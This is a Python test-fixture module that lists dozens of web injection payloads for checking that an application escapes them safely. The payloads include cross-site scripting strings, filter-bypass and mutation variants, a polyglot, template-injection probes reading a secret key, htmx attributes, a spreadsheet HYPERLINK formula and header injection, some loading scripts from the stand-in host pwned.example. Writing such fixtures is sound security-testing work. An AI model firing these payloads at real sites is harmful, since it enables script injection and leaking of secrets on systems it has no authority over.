"""Texts that would do something if anything took them for markup, a template or an address.

Each says MARK, and what of them is a script sets ``window.pwned`` or calls ``alert``.
"""

import hashlib
import itertools
import re

MARK = "pwned"
# What a template that runs {{9876543*1234567}} makes of it.
# Long enough that no fraction of a second and no random token holds it by chance.
PRODUCT = str(9876543 * 1234567)

# Those that do harm only where a text begins, as the value of an attribute or the cell of a table.
_BEGINNINGS = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:alert('pwned')",
    "\tjava\nscript:window.pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "//pwned.example/x.js",
    '"><script>window.pwned=1</script>',
    "' onfocus='window.pwned=1' autofocus='",
    "</bdi></code></section><script>window.pwned=1</script>",
    '=HYPERLINK("http://pwned.example","x")',
    "vbscript:msgbox('pwned')",
)
_ANYWHERE = (
    # Elements that run something
    "<script>window.pwned=1</script>",
    "<script src=//pwned.example/x.js></script>",
    "<ScRiPt >alert('pwned')</sCrIpT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    "<img/src=x/onerror=alert('pwned')>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:window.pwned=1></object>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content='0;url=//pwned.example'>",
    "<link rel=stylesheet href=//pwned.example/x.css>",
    "<form action=//pwned.example><button>pwned</button></form>",
    "<a href=javascript:window.pwned=1>pwned</a>",
    # SVG and MathML
    "<svg onload=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text>pwned</text></a></svg>",
    "<math><mi xlink:href='data:x,<script>parent.pwned=1</script>'>pwned</mi></math>",
    # Out of where a text stands
    "' onmouseover=window.pwned=1 x='",
    "` onmouseover=window.pwned=1 x=`",
    "</title><script>window.pwned=1</script>",
    "</textarea><img src=x onerror=window.pwned=1>",
    "</style></script><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "<!--<img src='--><img src=x onerror=window.pwned=1>'",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    # What a second parsing would make of it
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    # Templates and htmx
    "{{9876543*1234567}}{{settings.SECRET_KEY}}pwned",
    "{% debug %}{% load log %}{# pwned #}${9876543*1234567}<%= 9876543*1234567 %>",
    "<b hx-get=/sign-out/ hx-trigger=load hx-vals='js:window.pwned=1'>",
    "<b data-hx-on:load=window.pwned=1 hx-on::load=window.pwned=1 data-hx-get=/>",
    "<div hx-ext=morph hx-swap-oob=true id=main>pwned</div>",
    # Characters
    "a\x00<script\x00>window.pwned=1</script\x00>",
    "pwned\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned=1</script>",
    "\u202e<script>window.pwned=1</script>\u202c\u2066pwned",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e\u2028pwned",
    "\ud800<svg/onload=window.pwned=1>\udfff",
    # Everything at once
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=window.pwned=1 )//</stYle/</titLe/"
        "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.pwned=1//>\\x3e"
    ),
)
PAYLOADS = (*_BEGINNINGS, *_ANYWHERE)

# Ten texts with all of them, so that few pages hold many: what begins a text begins one.
GROUPS = tuple(
    " ".join((beginning, *_ANYWHERE[number :: len(_BEGINNINGS)]))
    for number, beginning in enumerate(_BEGINNINGS)
)


def harmless(text: str) -> str:
    """As many letters in words of the same lengths, others for another text; slashes stay, since an
    address with them is another address."""
    digest = hashlib.sha256(text.encode(errors="replace")).digest()
    letters = itertools.cycle("ghijklmnopqrstuv"[byte % 16] for byte in digest)
    return re.sub(r"[^\s/]", lambda _: next(letters), text)
